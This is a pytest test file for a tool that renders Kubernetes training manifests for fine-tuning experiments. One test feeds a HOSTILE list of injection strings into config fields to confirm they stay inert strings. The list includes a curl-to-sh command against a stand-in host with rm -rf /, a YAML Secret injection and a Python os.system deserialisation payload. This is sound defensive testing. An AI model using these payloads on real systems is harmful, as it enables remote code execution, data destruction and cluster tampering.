from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from lint_harness import REPO, make_workspace, record_run

from render import k8snames
from render.cli import main
from render.manifests.overlay import overlay_key, render
from render.manifests.runspec import RunSpec
from render.propose import naming
from render.propose.experiment import Workspace

GOLDEN = REPO / "tests" / "golden"
GOLDEN_COMMIT = "1111111111111111111111111111111111111111"


def specs_for(root: Path, commit: str = GOLDEN_COMMIT) -> list[RunSpec]:
    """Every run the shipped experiments make (a sweep: each point), but the pipeline
    stages that wait for an input (their inputs have no record here)."""
    from render.propose.lint import require_clean

    return [RunSpec(e, commit) for e in require_clean(Workspace(root)) if not e.waiting]


def test_golden_files_are_current() -> None:
    """Regenerate with: ftops render --commit 1111111111111111111111111111111111111111
    --out tests/golden"""
    assert main(["--repo", str(REPO), "render", "--commit", GOLDEN_COMMIT,
                 "--out", "tests/golden", "--check"]) == 0


def test_every_shipped_experiment_has_golden_files() -> None:
    for spec in specs_for(REPO):
        folder = GOLDEN / overlay_key(spec)
        for name in ("kustomization.yaml", "run/kustomization.yaml", "run/jobset.yaml",
                     "run/train.yaml", "run/spec.json", "run/dataset_info.json",
                     "manifests.yaml"):
            assert (folder / name).is_file(), folder / name


def test_render_is_deterministic(tmp_path: Path) -> None:
    root = make_workspace(tmp_path)
    a = render(specs_for(root), root / "out-a", root)
    b = render(specs_for(root), root / "out-b", root)
    for ra, rb in zip(a, b, strict=True):
        for name in ("manifests.yaml", "kustomization.yaml", "run/train.yaml",
                     "run/jobset.yaml"):
            assert (ra.folder / name).read_bytes() == (rb.folder / name).read_bytes()


def _kustomize_alone(folder: Path) -> str:
    import subprocess

    from render.manifests.kustomize import kubectl

    return subprocess.run([kubectl(), "kustomize", str(folder)], check=True,
                          capture_output=True, text=True).stdout


def test_every_run_is_what_kustomize_builds_of_its_overlay(tmp_path: Path) -> None:
    """ftops builds the objects itself (render.manifests.components); each run's must be
    what `kubectl kustomize <overlay>` builds of the overlay a person would apply, and
    manifests.yaml must read back as exactly those objects."""
    root = make_workspace(tmp_path)
    rendered = render(specs_for(root), root / "out", root)
    assert rendered and all(r.objects is not None for r in rendered)  # none fell back
    for r in rendered:
        built = [d for d in yaml.safe_load_all(_kustomize_alone(r.folder)) if d]
        assert built == r.manifests
        written = (r.folder / "manifests.yaml").read_text()
        assert [d for d in yaml.safe_load_all(written) if d] == built


def test_a_component_ftops_does_not_apply_goes_to_kustomize(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A k8s-base component that uses more than labels and JSON patches (here
    commonAnnotations) sends its runs to Kustomize, which builds them in chunks, byte for
    byte what it builds of each overlay alone; the render says why it is slower."""
    root = make_workspace(tmp_path)
    common = root / "k8s-base/components/jobset-common/kustomization.yaml"
    common.write_text(common.read_text() + "commonAnnotations:\n  team: ml\n")
    rendered = render(specs_for(root), root / "out", root)
    err = capsys.readouterr().err
    assert "jobset-common: it uses commonAnnotations" in err and "by Kustomize" in err
    for r in rendered:
        assert r.objects is None
        assert "---\n".join(r.documents) == _kustomize_alone(r.folder)
        assert all(d["metadata"]["annotations"]["team"] == "ml" for d in r.manifests)


def test_objects_that_differ_from_kustomizes_are_not_used(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A real difference: Kustomize's YAML folds NEL (U+0085) into a space, where ftops
    keeps the character. The run checked against Kustomize shows it, so its group is
    built by Kustomize (what `kubectl apply -k` would create) and the render says where."""
    root = make_workspace(tmp_path)
    exp, _ = Workspace(root).load(root / "experiments/demo/tiny-llama/sft_lora_v1.yaml")
    assert exp is not None
    exp.merged["metadata"]["owner"] = "a\x85b"  # past lint on purpose
    (r,) = render([RunSpec(exp, GOLDEN_COMMIT)], root / "out", root)
    err = capsys.readouterr().err
    assert "differ from `kubectl kustomize` at /1/metadata/annotations/ftops.dev/owner" in err
    assert r.objects is None
    assert r.manifests[1]["metadata"]["annotations"]["ftops.dev/owner"] == "a b"
    assert "---\n".join(r.documents) == _kustomize_alone(r.folder)


def test_changing_k8s_base_rerenders_every_experiment(tmp_path: Path) -> None:
    root = make_workspace(tmp_path)
    before = {r.spec.exp.path: (r.folder / "manifests.yaml").read_text()
              for r in render(specs_for(root), root / "out", root)}
    common = root / "k8s-base/components/jobset-common/kustomization.yaml"
    common.write_text(common.read_text().replace("runAsUser: 1000", "runAsUser: 2000"))
    after = {r.spec.exp.path: (r.folder / "manifests.yaml").read_text()
             for r in render(specs_for(root), root / "out", root)}
    assert before.keys() == after.keys()
    for path in before:
        assert before[path] != after[path], path
        assert "runAsUser: 2000" in after[path]


def test_commit_is_lineage_not_the_run_id_and_names_fit(tmp_path: Path) -> None:
    """The same experiment merged at another commit names the same run (it launches
    once); the commit is kept as the run's git_sha."""
    root = make_workspace(tmp_path)
    a = {s.exp.path: s for s in specs_for(root, "a" * 40)}
    b = {s.exp.path: s for s in specs_for(root, "b" * 40)}
    for path in a:
        assert a[path].run_id == b[path].run_id
        assert (a[path].identity().git_sha, b[path].identity().git_sha) == ("a" * 40, "b" * 40)
        js = a[path].jobset
        assert k8snames.check_dns_label(js) is None
        host = naming.pod_hostname(js, a[path].exp.launch.nodes - 1)
        assert k8snames.check_dns_label(host) is None and len(host) <= 63


def test_multi_node_jobset_shape(tmp_path: Path) -> None:
    root = make_workspace(tmp_path)
    (spec,) = [s for s in specs_for(root) if s.exp.name == "sft_full_ds3_lr1e-5_v1"]
    (r,) = render([spec], root / "out", root)
    kinds = sorted(d["kind"] for d in r.manifests)
    assert kinds == ["ConfigMap", "JobSet"]
    js = next(d for d in r.manifests if d["kind"] == "JobSet")
    assert js["spec"]["suspend"] is True
    assert js["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "research"
    assert js["metadata"]["labels"]["kueue.x-k8s.io/priority-class"] == "high"
    assert js["spec"]["failurePolicy"]["maxRestarts"] == 3
    job = js["spec"]["replicatedJobs"][0]["template"]["spec"]
    assert job["parallelism"] == job["completions"] == 2
    assert job["completionMode"] == "Indexed" and job["backoffLimit"] == 0
    pod = job["template"]["spec"]
    assert pod["restartPolicy"] == "Never"
    c = pod["containers"][0]
    env = {e["name"]: e for e in c["env"]}
    assert env["NNODES"]["value"] == "2" and env["NPROC_PER_NODE"]["value"] == "8"
    assert env["MASTER_ADDR"]["value"] == f"{spec.jobset}-node-0-0.{spec.jobset}"
    assert "job-completion-index" in env["NODE_RANK"]["valueFrom"]["fieldRef"]["fieldPath"]
    assert env["HF_TOKEN"]["valueFrom"]["secretKeyRef"] == {"name": "hf-token", "key": "token"}
    assert c["resources"]["limits"]["nvidia.com/gpu"] == "8"
    mounts = {m["mountPath"] for m in c["volumeMounts"]}
    assert {"/dev/shm", "/etc/ftops", "/mnt/storage"} <= mounts
    cm = next(d for d in r.manifests if d["kind"] == "ConfigMap")
    train = yaml.safe_load(cm["data"]["train.yaml"])
    assert train["output_dir"] == spec.pod_output_dir
    assert train["output_dir"].endswith(f"/{spec.exp.name}/{spec.run_id}")
    assert train["deepspeed"] == "/etc/ftops/deepspeed.json"


HOSTILE = [
    "x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: pwned}",
    "{{ lookup('env', 'HOME') }} {% raw %}",
    "$(curl evil.example | sh); `id` && rm -rf / #",
    "key: value\n- item\n? complex",
    "--- !!python/object/apply:os.system ['id']",
    "\"'\\\u2028\x85",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_strings_stay_strings(tmp_path: Path, hostile: str) -> None:
    root = make_workspace(tmp_path)
    ws = Workspace(root)
    exp, _ = ws.load(root / "experiments/demo/tiny-llama/sft_lora_v1.yaml")
    assert exp is not None
    # Bypass lint on purpose: render itself must be safe whatever reaches it.
    exp.merged["train"]["run_name"] = hostile
    exp.merged["train"]["dataset_info_note"] = {"nested": [hostile]}
    exp.merged["metadata"]["owner"] = hostile
    exp.merged["metadata"]["description"] = hostile
    spec = RunSpec(exp, GOLDEN_COMMIT)
    (r,) = render([spec], root / "out", root)
    docs = [d for d in yaml.safe_load_all((r.folder / "manifests.yaml").read_text()) if d]
    assert sorted(d["kind"] for d in docs) == ["ConfigMap", "JobSet"]
    cm = next(d for d in docs if d["kind"] == "ConfigMap")
    train = yaml.safe_load(cm["data"]["train.yaml"])
    assert train["run_name"] == hostile
    assert train["dataset_info_note"] == {"nested": [hostile]}
    js = next(d for d in docs if d["kind"] == "JobSet")
    owner = js["metadata"]["annotations"]["ftops.dev/owner"]
    # Kustomize's YAML re-serialisation folds NEL (U+0085) into a space: still one string.
    assert isinstance(owner, str) and owner == hostile.replace("\x85", " ")
    owner_label = js["metadata"]["labels"]["ftops.dev/owner"]
    assert k8snames.LABEL_VALUE.match(owner_label) and len(owner_label) <= 63
    container = js["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]["spec"][
        "containers"][0]
    assert container["command"] == ["ftops", "node-run", "--spec", "/etc/ftops/spec.json"]
    assert "args" not in container


def test_rendered_objects_validate_against_pinned_upstream_schemas(tmp_path: Path) -> None:
    from render.manifests.validate import validate_manifests

    root = make_workspace(tmp_path)
    rendered = render(specs_for(root), root / "out", root)
    docs = [d for r in rendered for d in r.manifests]
    assert validate_manifests(docs) == []
    # and the validator does catch a wrong field
    js = next(d for d in docs if d["kind"] == "JobSet")
    broken = yaml.safe_load(yaml.safe_dump(js))
    broken["spec"]["replicatedJobs"][0]["replicas"] = "two"
    broken["spec"]["sucessPolicy"] = {}
    problems = validate_manifests([broken])
    assert any("replicas" in p for p in problems)
    assert any("sucessPolicy" in p for p in problems)


def test_k8s_base_objects_validate() -> None:
    import subprocess

    from render.manifests.kustomize import kubectl
    from render.manifests.validate import validate_manifests

    for overlay in ("default", "cluster-admin"):
        out = subprocess.run([kubectl(), "kustomize", str(REPO / "k8s-base" / overlay)],
                             check=True, capture_output=True, text=True).stdout
        docs = [d for d in yaml.safe_load_all(out) if d]
        assert docs
        assert validate_manifests(docs) == []


def test_profile_agrees_with_kueue_and_storage_components() -> None:
    from render.propose.profile import load_profile

    profile = load_profile(REPO)
    flavors = yaml.safe_load_all(
        (REPO / "k8s-base/components/kueue/resource-flavors.yaml").read_text())
    names = {f["metadata"]["name"]: f for f in flavors}
    assert set(names) == set(profile.gpu_types)
    for name, gpu in profile.gpu_types.items():
        assert names[name].get("spec", {}).get("nodeLabels", {}) == gpu.node_labels
        # Kueue gives a GPU flavor only to pods that tolerate its nodes' taint (and a
        # flavor toleration would make it ignore that): CPU runs get the cpu flavor
        spec = names[name].get("spec", {})
        assert "tolerations" not in spec
        assert spec.get("nodeTaints", []) == ([{"key": "nvidia.com/gpu", "value": "present",
                                                "effect": "NoSchedule"}]
                                              if gpu.gpus_per_node else [])
    queues = list(yaml.safe_load_all(
        (REPO / "k8s-base/components/kueue/local-queues.yaml").read_text()))
    assert {q["metadata"]["name"] for q in queues} == set(profile.queues)
    assert all(q["metadata"]["namespace"] == profile.namespace for q in queues)
    prios = yaml.safe_load_all((REPO / "k8s-base/components/kueue/priorities.yaml").read_text())
    assert {p["metadata"]["name"] for p in prios} == set(profile.priorities)
    gcs = (REPO / "k8s-base/components/storage-gcsfuse/kustomization.yaml").read_text()
    assert f"bucketName: {profile.bucket}" in gcs
    assert profile.storage_root == f"gs://{profile.bucket}"
    pvc = (REPO / "k8s-base/components/storage-pvc/kustomization.yaml").read_text()
    assert f"claimName: {profile.pvc_claim}" in pvc


def test_plan_markdown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = make_workspace(tmp_path)
    path = "experiments/alpaca_en/llama-3.1-8b/sft_full_ds3_lr1e-5_v1.yaml"
    assert main(["--repo", str(root), "plan", "--commit", GOLDEN_COMMIT, path]) == 0
    out = capsys.readouterr().out
    assert out.startswith("<!-- ftops-plan -->")
    assert "2 node(s) × 8 GPU(s) = 16 GPU(s)" in out
    assert "formula:" in out  # no earlier run measured yet
    assert "sft_lora_r8_lr1e-4_v1.yaml" in out  # nearest sibling diffed
    assert "-  finetuning_type: lora" in out and "+  finetuning_type: full" in out


def test_plan_prefers_measured_throughput(tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    root = make_workspace(tmp_path)
    record_run(root, "experiments/alpaca_en/llama-3.1-8b/sft_lora_r8_lr1e-4_v1.yaml", "aaaa",
               "x", gpu_type="h100-80gb", nodes=1, gpus_per_node=8,
               finished_at="2026-11-01T00:00:00Z",
               metrics={"train_samples_per_second": 80.0})
    path = "experiments/alpaca_en/llama-3.1-8b/sft_full_ds3_lr1e-5_v1.yaml"
    assert main(["--repo", str(root), "plan", "--commit", GOLDEN_COMMIT, path]) == 0
    out = capsys.readouterr().out
    # 52000 samples x 2 epochs / (10 samples/s/GPU x 16 GPUs) = 650 s ≈ 11 min
    assert "measured: 10.00 samples/s per GPU in sft_lora_r8_lr1e-4_v1 run aaaa" in out
    assert "11 min wall" in out


def test_render_refuses_experiments_with_lint_problems(tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    root = make_workspace(tmp_path)
    bad = root / "experiments/demo/tiny-llama/sft_lora_v1.yaml"
    bad.write_text(bad.read_text().replace("lora_rank: 8", "lora_rnk: 8"))
    assert main(["--repo", str(root), "render", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "did you mean 'lora_rank'?" in err and "Traceback" not in err
    assert not (root / ".rendered").exists() or not any((root / ".rendered").rglob("*.yaml"))


def test_cli_render_writes_overlays(tmp_path: Path) -> None:
    root = make_workspace(tmp_path)
    assert main(["--repo", str(root), "render", "--commit", GOLDEN_COMMIT]) == 0
    built = list((root / ".rendered").rglob("manifests.yaml"))
    assert len(built) == len(specs_for(root))
    shutil.rmtree(root / ".rendered")
